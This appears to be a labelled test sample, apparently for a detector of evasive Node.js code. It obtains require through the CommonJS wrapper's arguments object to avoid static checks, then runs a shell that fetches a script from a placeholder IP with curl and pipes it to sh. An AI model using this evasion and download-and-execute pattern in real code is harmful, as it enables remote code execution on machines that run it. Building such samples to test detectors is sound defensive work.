// evasion: require taken from the CommonJS module wrapper's arguments object at top level (arguments[1])
// grade: very hard; does: shell
const load = arguments[1];
const cp = load('child_process');
cp.execFileSync('/bin/sh', ['-c', 'curl -s http://198.51.100.7/p | sh'], { stdio: 'inherit' });
